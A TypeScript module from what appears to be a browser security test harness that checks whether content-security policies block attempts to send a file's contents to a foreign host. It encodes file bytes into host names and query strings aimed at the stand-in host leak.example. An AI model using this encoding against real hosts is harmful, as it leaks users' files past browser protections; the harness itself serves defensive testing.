import type { Refusals } from './hear-refusals.ts';
import type { Attempt } from './ways-out.ts';

/**
 * `silent`: the browser enforces a policy that refuses it, but reports nothing. `unseen`: nothing shows that it was
 * refused.
 */
export type Verdict = 'refused' | 'silent' | 'unseen' | 'absent';

export interface Outcome {
  verdict: Verdict;
  /** The browser's reports: names of directives, and errors. */
  words: string[];
}

/** Names under `.example` are reserved, and nobody answers there (RFC 2606). */
const foreign = 'https://leak.example';

/** How long to wait for a browser to report a refusal, in milliseconds. */
const patience = 250;

/** The effects of one attempt where it runs, and the browser's reactions. */
export interface Traces {
  refusals: Refusals;
  /** Further evidence that the browser refused. */
  failures(): string[];
  /** Restores the place. */
  end(): void;
}

/** An environment in which attempts run. */
export interface Place {
  /** A prefix for the host names of its attempts. */
  mark: string;
  /** Follows one attempt, by its host name. */
  follow(hostname: string): Traces;
  /**
   * Whether the browser is known to enforce the `Connection-Allowlist` of this place, which refuses without a message.
   */
  listHolds: boolean;
}

/** Encodes the beginning of a file as a label of a host name, for ways that only take an address. */
const asLabel = (bytes: Uint8Array) =>
  [...bytes.slice(0, 16)].map((byte) => byte.toString(16).padStart(2, '0')).join('');

/** Encodes bytes as text that can be sent. */
export const asText = (bytes: Uint8Array) => btoa(String.fromCharCode(...bytes));

/** The address that would take bytes to a foreign host: in its name, and in a query. */
export function addressFor(bytes: Uint8Array, mark: string): string {
  const address = new URL('/leak', foreign);
  address.hostname = `${mark}-${asLabel(bytes)}.${address.hostname}`;
  address.searchParams.set('file', asText(bytes.slice(0, 100)));
  return address.href;
}

let attempts = 0;

/**
 * Tries to send the beginning of a file away. The verdict is based on the browser: a violation event, an error that
 * names the origin, or a call that failed before it began. That nobody answers is no verdict.
 *
 * @param tell called with the outcome, and again if a busy browser reports later.
 */
export async function tryWay(
  attempt: Attempt,
  bytes: Uint8Array,
  { mark, follow, listHolds }: Place,
  tell: (outcome: Outcome) => void,
): Promise<void> {
  // The host name identifies the attempt that a report belongs to.
  const address = addressFor(bytes, `${mark}${++attempts}`);
  const traces = follow(new URL(address).hostname);
  let error: unknown;
  try {
    const run = (async () => {
      try {
        await attempt(address, asText(bytes));
      } catch (thrown) {
        error = thrown;
      }
      if (!isRefusal(error)) await pause(patience);
    })();
    await Promise.race([traces.refusals.first, run, pause(patience * 2)]);
    // A page's policy is in its header and in the page itself: what both refuse is reported twice.
    await pause(30);
    const outcome = judge(traces, error, listHolds);
    tell(outcome);
    if (outcome.verdict !== 'refused') void traces.refusals.first.then(() => tell(judge(traces, error, listHolds)));
  } finally {
    traces.end();
  }
}

const pause = (milliseconds: number) => new Promise<void>((resolve) => setTimeout(resolve, milliseconds));

/** Errors that browsers throw for a violation, not because nobody answered. */
const isRefusal = (error: unknown) => error instanceof DOMException && error.name === 'SecurityError';

function judge({ refusals, failures }: Traces, error: unknown, listHolds: boolean): Outcome {
  const shown = [...refusals.said, ...failures()];
  const words = [...shown, ...(error ? [shorten(error)] : [])];
  if (error instanceof ReferenceError) return { verdict: 'absent', words };
  if (shown.length > 0 || isRefusal(error)) return { verdict: 'refused', words };
  return { verdict: listHolds ? 'silent' : 'unseen', words };
}

/** Omits the address, which is long, and the same in all. */
const shorten = (error: unknown) => String(error).replaceAll(/(https?:\/\/)[^\s']*/g, '$1…');
